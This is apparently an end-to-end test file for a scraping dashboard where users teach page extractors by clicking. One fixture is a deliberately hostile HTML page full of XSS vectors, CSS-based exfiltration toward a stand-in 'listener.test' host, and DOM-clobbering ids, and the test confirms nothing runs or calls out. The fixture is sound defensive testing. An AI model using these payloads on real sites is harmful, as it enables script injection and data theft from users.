import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import type { Reader } from '../../../src/products/readers/answers.ts'
import { startApp, type TestApp } from '../../support/app.ts'
import { ownerEnv } from '../../support/dashboard.ts'
import { type DashboardPage, openDashboard } from '../../support/dashboard-page.ts'
import { lampAt, lampData, lampPage } from '../../support/lamp-shop.ts'
import { createSimulatedWeb, type SimulatedWeb } from '../../support/simulated-web.ts'
import { until } from '../../support/until.ts'

let web: SimulatedWeb
let app: TestApp
let dashboard: DashboardPage
before(async () => {
  web = await createSimulatedWeb()
  const links = [2, 4, 5].map(n => `<a href="/lamp/${n}">${lampAt(n).name} too</a>`).join(' ')
  const lamps = Array.from({ length: 20 }, (_, n) => [
    `/lamp/${n}`,
    lampPage(n).replace('</main>', `<p class="more">${links}</p></main>`),
  ])
  web.site('lamps.test', Object.fromEntries(lamps))
  const advertised = Array.from({ length: 20 }, (_, n) => [
    `/lamp/${n}`,
    lampPage(n).replace('</ul>', `${advertisement}</ul>`),
  ])
  web.site('advertised.test', Object.fromEntries(advertised))
  web.site('hostile.test', { '/page': hostile })
  web.site('days.test', {
    '/log/1': logPage('3/4/2011', '-5 %'),
    '/log/2': logPage('5/6/2012', '7 %'),
  })
  web.site('listener.test', () => ({ status: 200, body: 'heard' }))
  app = await startApp({ ...web.env, ...ownerEnv, RATE_LIMIT_PER_MINUTE: '1000' })
  dashboard = await openDashboard(app)
  await dashboard.signIn()
})
after(async () => {
  await app.close()
  await web.close()
})

const logPage = (day: string, change: string) =>
  `<main class="log"><h1>Log</h1><dl><dt>Day</dt><dd class="day">${day}</dd><dt>Change</dt><dd class="change">${change}</dd></dl><p class="about">What happened on that day, in many words</p></main>`

/** It stands among the reviews, and is none. */
const advertisement =
  '<li class="review"><a><b class="by">Sponsored</b> <i class="stars">5 stars</i></a></li>'

/** Everything that a page may try when it is shown. */
const hostile = `<!doctype html><html><head><base href="https://listener.test/">
  <meta http-equiv="refresh" content="300;url=https://listener.test/refresh">
  <link rel="stylesheet" href="https://listener.test/a.css"><title>Hostile</title>
  <style>@import "https://listener.test/b.css"; body { background: url(https://listener.test/c) }
  button[title^="p"] { background: url(https://listener.test/exfil) }</style>
  <script>fetch('https://listener.test/script'); alert(1)</script></head>
  <body onload="fetch('https://listener.test/onload')" style="position:fixed;background:url(https://listener.test/s)">
  <img src="https://listener.test/i.png" srcset="https://listener.test/i2.png 2x" onerror="alert(2)" alt="A &quot;><script>alert(3)</script>">
  <iframe src="https://listener.test/frame" srcdoc="<script>alert(4)</script>"></iframe>
  <object data="https://listener.test/o"></object><embed src="https://listener.test/e">
  <form action="https://listener.test/form"><input autofocus onfocus="alert(5)" name="body"><button>Send</button></form>
  <svg onload="alert(6)"><image href="https://listener.test/svg"/><script>alert(7)</script></svg>
  <video src="https://listener.test/v" poster="https://listener.test/p"></video>
  <a id="location" href="javascript:alert(8)">A link to nowhere</a>
  <a name="getSelection" href="https://listener.test/ping" ping="https://listener.test/ping">Another link</a>
  <h1 id="document" class="__proto__">Plain words of a hostile page</h1>
  <p>&lt;img src=x onerror=alert(9)&gt;</p></body></html>`

const openTeach = async (url: string) => {
  const { page } = dashboard
  await page.goto(`${app.apiUrl}/readers/new`)
  await page.getByLabel('A page of the template').fill(url)
  await page.getByRole('button', { name: 'Read the page' }).click()
  await page.getByRole('region', { name: 'Copy of the page' }).waitFor()
  return page.getByRole('region', { name: 'Copy of the page' })
}
const addField = async (name: string, more: { type?: string; list?: string } = {}) => {
  const { page } = dashboard
  await page.getByLabel('New field', { exact: true }).fill(name)
  await page.getByLabel('Type of the new field').selectOption({ label: more.type ?? 'Text' })
  await page.getByLabel('In a list (optional)').fill(more.list ?? '')
  await page.getByRole('button', { name: 'Add field' }).click()
}

describe('teaching by clicks', () => {
  it('makes a reader of single values and a list from two rows', async () => {
    const copy = await openTeach('https://lamps.test/lamp/1')
    const { page } = dashboard
    await addField('name')
    await addField('price', { type: 'Number' })
    await addField('days', { type: 'Number' })
    await addField('author', { list: 'reviews' })
    const { name, price } = lampAt(1)
    await copy.getByRole('button', { name, exact: true }).first().click()
    // By keyboard alone.
    await copy.getByRole('button', { name: price }).focus()
    await page.keyboard.press('Enter')
    await copy.getByRole('button', { name: /^\d days$/ }).click()
    const [ann, bo] = lampData(1).reviews
    await copy.getByRole('button', { name: ann?.author ?? '', exact: true }).click()
    await copy.getByRole('button', { name: bo?.author ?? '', exact: true }).click()
    await page.getByText('3 rows').first().waitFor()
    await page.getByRole('button', { name: /^Compare with 3 more pages/ }).click()
    await page.getByText('/lamp/5').first().waitFor()
    await page.getByText(String(lampData(5).price)).waitFor()
    await dashboard.checkAccess('teach')
    await page.getByRole('button', { name: 'Save the reader' }).click()
    await page.getByRole('heading', { level: 1, name: 'lamps.test' }).waitFor()
    await dashboard.loaded()
    await dashboard.checkAccess('one reader')
    const [reader] = ((await app.api('/v1/readers')).json as { data: Reader[] }).data
    const url = 'https://lamps.test/lamp/7'
    const answer = await app.api('/v1/extract', {
      method: 'POST',
      body: { url, reader: reader?.id },
    })
    assert.deepEqual((answer.json as { data: unknown }).data, {
      ...{ name: lampAt(7).name, price: lampData(7).price, days: 2 + (7 % 4) },
      reviews: lampData(7).reviews.map(({ author }) => ({ author })),
    })
  })

  it('takes whole elements by keyboard or mouse, and takes out what is no row', async () => {
    const copy = await openTeach('https://advertised.test/lamp/1')
    const { page } = dashboard
    await addField('offer')
    await addField('delivery')
    await addField('author', { list: 'reviews' })
    const { price } = lampAt(1)
    await copy.getByRole('button', { name: price }).focus()
    await page.keyboard.press('ArrowUp')
    await page.keyboard.press('Enter')
    await page.getByText(`“${price} with tax”`).waitFor()
    await copy.getByRole('button', { name: /^\d days$/ }).click()
    await page.getByRole('button', { name: 'wider: the element around delivery' }).click()
    await page.getByText('“Delivery 3 days”').waitFor()
    const [ann, bo] = lampData(1).reviews
    await copy.getByRole('button', { name: ann?.author ?? '', exact: true }).click()
    await copy.getByRole('button', { name: bo?.author ?? '', exact: true }).click()
    await page.getByText('4 rows').waitFor()
    await copy.getByRole('button', { name: 'Not a row of reviews: 5 stars' }).last().click()
    await page.getByText('3 rows').waitFor()
    await page.getByText('1 thing taken out of reviews').waitFor()
    await dashboard.checkAccess('teach elements and rows')
    await page.getByRole('button', { name: 'Save the reader' }).click()
    await page.getByRole('heading', { level: 1, name: 'advertised.test' }).waitFor()
    const [reader] = (
      (await app.api('/v1/readers?host=advertised.test')).json as { data: Reader[] }
    ).data
    const answer = await app.api('/v1/extract', {
      method: 'POST',
      body: { url: 'https://advertised.test/lamp/7', reader: reader?.id },
    })
    assert.deepEqual((answer.json as { data: unknown }).data, {
      ...{ offer: `${lampAt(7).price} with tax`, delivery: `Delivery ${2 + (7 % 4)} days` },
      reviews: lampData(7).reviews.map(({ author }) => ({ author })),
    })
  })

  it('takes “not on this page” for an answer when a reader is taught more', async () => {
    const [reader] = ((await app.api('/v1/readers?host=lamps.test')).json as { data: Reader[] })
      .data
    const { page } = dashboard
    await page.goto(`${app.apiUrl}/readers/new?reader=${reader?.id}&url=https://lamps.test/lamp/3`)
    await page.getByRole('button', { name: 'Read the page' }).click()
    await page.getByRole('button', { name: 'Not on this page' }).first().click()
    await page.getByText('not on this page', { exact: true }).waitFor()
    await page.getByRole('button', { name: 'Save the examples' }).click()
    await page.getByText('Version 2').waitFor()
    const rows = await app.database.sql`select data from reader_pages where url like '%/lamp/3'`
    assert.deepEqual(Object.values(rows[0]?.data), [null])
  })

  it('teaches more to a reader with objects, and with two fields of one name', async () => {
    const text = { type: 'string' }
    const object = (properties: object) => ({ type: 'object', properties })
    const schema = object({
      name: text,
      offer: object({ price: { type: 'number' } }),
      reviews: { type: 'array', items: object({ name: text }) },
    })
    const dataOf = (n: number) => ({
      ...{ name: lampAt(n).name, offer: { price: lampData(n).price } },
      reviews: lampData(n).reviews.map(({ author }) => ({ name: author })),
    })
    const example = { url: 'https://lamps.test/lamp/1', html: lampPage(1), data: dataOf(1) }
    const body = { name: 'Objects', schema, examples: [example] }
    const { id } = (await app.api('/v1/readers', { method: 'POST', body })).json as Reader
    const { page } = dashboard
    const teach = async (n: number) => {
      const url = `https://lamps.test/lamp/${n}`
      await page.goto(`${app.apiUrl}/readers/new?reader=${id}&url=${url}`)
      await page.getByRole('button', { name: 'Read the page' }).click()
      const copy = page.getByRole('region', { name: 'Copy of the page' })
      for (const words of [lampAt(n).name, lampAt(n).price])
        await copy.getByRole('button', { name: words, exact: true }).first().click()
      return copy
    }
    const saved = async () => {
      await page.getByRole('button', { name: 'Save the examples' }).click()
      await page.getByRole('heading', { level: 1, name: 'Objects', exact: true }).waitFor()
      const rows = await app.database.sql`
        select data from reader_pages where reader_id = ${id} order by created_at desc`
      return rows[0]?.data
    }
    const copy = await teach(7)
    const { reviews, ...single } = dataOf(7)
    for (const { name = '' } of reviews.slice(0, 2))
      await copy.getByRole('button', { name, exact: true }).click()
    await page.getByText('3 rows').first().waitFor()
    await page.getByText(String(single.offer.price), { exact: true }).waitFor()
    assert.deepEqual(await saved(), { ...single, reviews: reviews.slice(0, 2) })
    // A list may be missing too.
    await teach(8)
    await page.getByRole('button', { name: 'Not on this page' }).last().click()
    assert.deepEqual(await saved(), { ...dataOf(8), reviews: null })
  })

  it('says what was made of a text, and is told what it means', async () => {
    const copy = await openTeach('https://days.test/log/1')
    const { page } = dashboard
    await addField('day', { type: 'Date' })
    await addField('change', { type: 'Number' })
    await copy.getByRole('button', { name: '3/4/2011', exact: true }).click()
    await copy.getByRole('button', { name: '-5 %', exact: true }).click()
    await page.getByText('→ 2011-03-04').waitFor()
    await page.getByText('→ -5').waitFor()
    await page.getByRole('button', { name: 'correct: what day means' }).click()
    await page.getByLabel('What day means').fill('2011-04-03')
    await page.getByText('→ 2011-04-03').waitFor()
    await dashboard.checkAccess('teach meanings')
    await page.getByRole('button', { name: 'Save the reader' }).click()
    await page.getByText('date, day before month').waitFor()
    const [reader] = ((await app.api('/v1/readers?host=days.test')).json as { data: Reader[] }).data
    const answer = await app.api('/v1/extract', {
      method: 'POST',
      body: { url: 'https://days.test/log/2', reader: reader?.id },
    })
    assert.deepEqual((answer.json as { data: unknown }).data, { day: '2012-06-05', change: 7 })
  })

  it('shows a reader’s prompt, by which readers of one site differ', async () => {
    const [reader] = ((await app.api('/v1/readers?host=days.test')).json as { data: Reader[] }).data
    await app.database
      .sql`update readers set prompt = 'Days of ours' where id = ${reader?.id ?? ''}`
    const { page } = dashboard
    await page.goto(`${app.apiUrl}/readers`)
    await page.getByText('“Days of ours”').waitFor()
    await page.goto(`${app.apiUrl}/readers/${reader?.id}`)
    await page.getByText('Learned with the prompt “Days of ours”').waitFor()
  })

  it('shows a hostile page without running, loading or sending anything', async () => {
    const copy = await openTeach('https://hostile.test/page')
    const { page } = dashboard
    await copy.getByRole('button', { name: 'Plain words of a hostile page' }).click()
    await copy.getByRole('button', { name: 'A link to nowhere' }).click()
    await copy.getByText('<img src=x onerror=alert(9)>').waitFor()
    await page.getByRole('heading', { level: 1 }).waitFor()
    assert.deepEqual(
      web.requestsTo('listener.test').map(({ path }) => path),
      [],
    )
    // Elements and attributes are our own, whatever the page has.
    const made = await copy.evaluate(region => {
      const inside = [...region.querySelectorAll('*')]
      const attributes = inside.flatMap(element => element.getAttributeNames())
      return { tags: inside.map(({ localName }) => localName), attributes }
    })
    assert.deepEqual([...new Set(made.tags)].sort(), ['button', 'div', 'p', 'span', 'sup'])
    assert.deepEqual([...new Set(made.attributes)].sort(), [
      ...['aria-pressed', 'class', 'title', 'type'],
    ])
    assert.equal(new URL(page.url()).pathname, '/readers/new')
    dashboard.checkConduct()
  })

  it('says which pages a reader is for where that was given', async () => {
    const [reader] = ((await app.api('/v1/readers?host=lamps.test')).json as { data: Reader[] })
      .data
    const { page } = dashboard
    await page.goto(`${app.apiUrl}/readers/${reader?.id}`)
    await page.getByText('lamps.test/lamp/*', { exact: true }).waitFor()
    const body = { match: { paths: ['/lamp/*', '/new/**'] } }
    await app.api(`/v1/readers/${reader?.id}`, { method: 'PATCH', body })
    await page.getByText('lamps.test/lamp/*, /new/** (these pages only)').waitFor()
  })

  it('lists readers and lets the playground choose one', async () => {
    const { page } = dashboard
    await page.goto(`${app.apiUrl}/readers`)
    await page.getByRole('link', { name: 'lamps.test' }).waitFor()
    await dashboard.checkAccess('readers')
    await page.goto(`${app.apiUrl}/playground/extract`)
    await until('the reader can be chosen', async () =>
      (await page.getByLabel('Reader').innerText()).includes('lamps.test'),
    )
  })
})
